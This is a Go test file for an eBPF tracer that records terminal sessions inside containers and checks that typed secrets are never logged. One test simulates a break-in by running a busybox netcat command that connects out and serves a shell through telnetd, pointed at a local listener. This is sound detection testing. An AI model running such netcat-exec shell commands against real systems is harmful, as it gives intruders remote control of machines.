// SPDX-License-Identifier: Apache-2.0

//go:build linux

package ebpfreceiver

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/meerkat-otel/meerkat/internal/names"
	"github.com/meerkat-otel/meerkat/receiver/ebpfreceiver/internal/tracer"
)

// ctr is a command to this containerd.
func (c *containers) ctr(arguments ...string) *exec.Cmd {
	return exec.Command("ctr", append([]string{"--address", c.address}, arguments...)...)
}

// keep runs a container that does nothing until the test ends, and returns the pid of its first process.
func (c *containers) keep(id string, options ...string) int {
	c.t.Helper()
	arguments := append([]string{"run", "--detach", "--net-host"}, options...)
	output, err := c.ctr(append(arguments, "--rootfs", c.rootfs, id, "/bin/busybox", "sleep", "1000")...).CombinedOutput()
	require.NoError(c.t, err, string(output))
	c.t.Cleanup(func() {
		output, err := c.ctr("task", "delete", "--force", id).CombinedOutput()
		require.NoError(c.t, err, string(output))
		output, err = c.ctr("container", "delete", id).CombinedOutput()
		require.NoError(c.t, err, string(output))
	})
	listed, err := c.ctr("task", "list").Output()
	require.NoError(c.t, err)
	for line := range strings.Lines(string(listed)) {
		if fields := strings.Fields(line); fields[0] == id {
			pid, err := strconv.Atoi(fields[1])
			require.NoError(c.t, err)
			return pid
		}
	}
	c.t.Fatalf("there is no task %s in\n%s", id, listed)
	return 0
}

// person sits at a terminal and types.
type person struct {
	t       *testing.T
	control *os.File
	screen  chan string
}

// sitDown runs a command at a terminal.
func sitDown(t *testing.T, command *exec.Cmd) *person {
	t.Helper()
	control, terminal, _ := openTerminal(t)
	command.Stdin, command.Stdout, command.Stderr = terminal, terminal, terminal
	command.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	require.NoError(t, command.Start())
	require.NoError(t, terminal.Close())
	p := &person{t: t, control: control, screen: make(chan string, 1)}
	go func() {
		var screen bytes.Buffer
		_, _ = io.Copy(&screen, control) // until the last program has closed the terminal
		p.screen <- screen.String()
	}()
	return p
}

func (p *person) types(line string) {
	p.t.Helper()
	_, err := io.WriteString(p.control, line+"\n")
	require.NoError(p.t, err)
}

// typed is what is on the screen when everybody has left.
func (p *person) typed(command *exec.Cmd) string {
	p.t.Helper()
	_ = command.Wait()
	select {
	case screen := <-p.screen:
		return screen
	case <-time.After(patience):
		p.t.Fatal("somebody still has the terminal open")
		return ""
	}
}

const typedSecret = "correct-horse-battery-staple"

// assertNothingTyped looks through everything that was sent.
func (l *live) assertNothingTyped() {
	l.t.Helper()
	for _, logs := range l.logs.AllLogs() {
		for _, resource := range logs.ResourceLogs().All() {
			for _, r := range resource.ScopeLogs().At(0).LogRecords().All() {
				assert.NotContains(l.t, r.Body().Str(), typedSecret)
				for name, value := range r.Attributes().All() {
					assert.NotContains(l.t, value.AsString(), typedSecret, name)
				}
			}
		}
	}
}

func (l *live) assertSessionEnds(begin record, id string) {
	l.t.Helper()
	end := l.one(names.EventTTYSessionEnd, func(r record) bool {
		return inContainer(id)(r) && r.str(names.ProcessCreationTime) == begin.str(names.ProcessCreationTime) &&
			r.num(names.ProcessPID) == begin.num(names.ProcessPID)
	})
	assert.Equal(l.t, begin.str(names.TTYSource), end.str(names.TTYSource))
	lasted := end.Timestamp().AsTime().Sub(begin.Timestamp().AsTime()).Seconds()
	assert.InDelta(l.t, lasted, end.double(names.TTYDuration), 0.001)
}

func TestContainer_atATerminal(t *testing.T) {
	c := startContainerd(t)
	l := startLive(t, only("tty"))
	id := containerID(200)
	command := c.ctr("run", "--rm", "--tty", "--net-host", "--rootfs", c.rootfs, id, "/bin/busybox", "sh")
	p := sitDown(t, command)
	p.types("echo " + typedSecret + "; /bin/busybox tty; /bin/busybox sh -c 'exit 0'; exit")
	screen := p.typed(command)
	require.Contains(t, screen, typedSecret)

	begin := l.one(names.EventTTYSession, inContainer(id))
	assert.Equal(t, "terminal", begin.str(names.TTYSource))
	_, inside, found := strings.Cut(screen, "\n/dev/")
	require.True(t, found, screen)
	inside, _, _ = strings.Cut(inside, "\r")
	if number, isPTY := strings.CutPrefix(inside, "pts/"); isPTY {
		assert.Equal(t, "pts"+number, begin.str(names.ProcessTTY))
	} else {
		assert.Equal(t, "console", inside, "the name that runc gives it")
		assert.Regexp(t, `^pts\d+$`, begin.str(names.ProcessTTY))
	}
	assert.EqualValues(t, 1, begin.num(names.ProcessVPID))
	assert.Equal(t, begin.num(names.ProcessPID), begin.num(names.ProcessSessionLeaderPID))
	assert.Equal(t, "/bin/busybox", begin.str(names.ProcessExecutablePath))
	assert.EqualValues(t, 0, begin.num(names.ProcessUserID))
	assert.Equal(t, "busybox was started in a container, at terminal "+begin.str(names.ProcessTTY), begin.Body().Str())
	l.assertSessionEnds(begin, id)
	l.assertNothingTyped()
	assert.Empty(t, l.find(names.EventProcessExec, inContainer(id)), "the tracer works alone")
}

func TestContainer_execByTheRuntime(t *testing.T) {
	c := startContainerd(t)
	l := startLive(t, only("tty"))
	id := containerID(201)
	first := c.keep(id)
	for name, c2 := range map[string]struct {
		options []string
		tty     bool
		user    int64
	}{
		"at a terminal":      {[]string{"--tty"}, true, 0},
		"without a terminal": {nil, false, 0},
		"another user":       {[]string{"--tty", "--user", "1234:4321"}, true, 1234},
	} {
		t.Run(name, func(t *testing.T) {
			execID := strings.ReplaceAll(name, " ", "-")
			arguments := append([]string{"task", "exec", "--exec-id", execID}, c2.options...)
			command := c.ctr(append(arguments, id, "/bin/busybox", "sh", "-c", "/bin/busybox true; read line; exit 0")...)
			mine := func(r record) bool {
				return inContainer(id)(r) && r.num(names.ProcessUserID) == c2.user && r.has(names.ProcessTTY) == c2.tty
			}
			if c2.tty {
				p := sitDown(t, command)
				p.types(typedSecret)
				p.typed(command)
			} else {
				command.Stdin = strings.NewReader(typedSecret + "\n")
				require.NoError(t, command.Run())
			}
			begin := l.one(names.EventTTYSession, mine)
			assert.Equal(t, "runtime_exec", begin.str(names.TTYSource))
			assert.Equal(t, "/bin/busybox", begin.str(names.ProcessExecutablePath))
			assert.Greater(t, begin.num(names.ProcessVPID), int64(1))
			assert.NotEqual(t, int64(first), begin.num(names.ProcessPID))
			l.assertSessionEnds(begin, id)
		})
	}
	assert.Len(t, l.find(names.EventTTYSession, inContainer(id)), 3, "neither the container's first process nor children")
	l.assertNothingTyped()
}

// A container that was there before the receiver: its first process is no session, and neither is the
// first that enters it taken for that.
func TestContainer_thatWasThereBefore(t *testing.T) {
	c := startContainerd(t)
	id := "meerkat-test-older"
	c.keep(id)
	l := startLive(t, only("tty"))
	output, err := c.ctr("task", "exec", "--exec-id", "one", id, "/bin/busybox", "true").CombinedOutput()
	require.NoError(t, err, string(output))
	begin := l.one(names.EventTTYSession, inContainer(id))
	assert.Equal(t, "runtime_exec", begin.str(names.TTYSource))
	assert.Equal(t, "busybox was started in a container, without a terminal", begin.Body().Str())
	l.assertSessionEnds(begin, id)
}

// A process that connects to somebody outside and makes a terminal for them, as after a break-in.
func TestContainer_terminalMadeInside(t *testing.T) {
	c := startContainerd(t)
	l := startLive(t, only("tty"))
	id := containerID(202)
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	defer listener.Close()
	ended := make(chan string, 1)
	go func() {
		ended <- c.run(id, fmt.Sprintf(`bb=/bin/busybox; $bb ln -sf busybox /bin/sh
			$bb printf '#!/bin/sh\n/bin/busybox tty\nread line\n' > /bin/shell; $bb chmod 755 /bin/shell
			exec $bb nc 127.0.0.1 %d -e $bb telnetd -i -K -l /bin/shell`, portOf(listener.Addr())))
	}()
	require.NoError(t, listener.(*net.TCPListener).SetDeadline(time.Now().Add(patience)))
	connection, err := listener.Accept()
	require.NoError(t, err)
	require.NoError(t, connection.SetDeadline(time.Now().Add(patience)))
	greeting := bufio.NewReader(connection)
	screen, err := greeting.ReadString('/')
	for err == nil && !strings.Contains(screen, "/dev/pts/") {
		var line string
		line, err = greeting.ReadString('\n')
		screen += line
	}
	require.NoError(t, err, screen)
	_, err = io.WriteString(connection, typedSecret+"\r\n")
	require.NoError(t, err)
	_, err = io.Copy(io.Discard, greeting)
	require.NoError(t, err)
	require.NoError(t, connection.Close())
	printed := <-ended
	begin := l.one(names.EventTTYSession, inContainer(id))
	assert.Equal(t, "terminal", begin.str(names.TTYSource), printed)
	assert.Contains(t, screen, "/dev/pts/"+strings.TrimPrefix(begin.str(names.ProcessTTY), "pts"))
	assert.Equal(t, begin.num(names.ProcessPID), begin.num(names.ProcessSessionLeaderPID))
	assert.Equal(t, "/bin/busybox", begin.str(names.ProcessExecutablePath), "it runs the script")
	l.assertSessionEnds(begin, id)
	l.assertNothingTyped()
}

// Outside of containers nobody is watched, and the tracer is off unless somebody asks for it.
func TestTTY_onlyContainers(t *testing.T) {
	assert.False(t, createDefaultConfig().(*Config).Tracers.TTY.Common.Enabled)
	l := startLive(t, only("tty"))
	command := exec.Command("/bin/sh")
	p := sitDown(t, command)
	p.types("exit")
	p.typed(command)
	l.stop()
	assert.Empty(t, l.find(names.EventTTYSession, byPID(command.Process.Pid)))
	assert.Empty(t, l.find(names.EventTTYSessionEnd, byPID(command.Process.Pid)))
}

func TestTTY_limitIsThatOfTheKernelHalf(t *testing.T) {
	object, err := tracer.TTY().Load()
	require.NoError(t, err)
	assert.EqualValues(t, tracer.TTYSessionsMax, object.Maps["sessions"].MaxEntries)
}
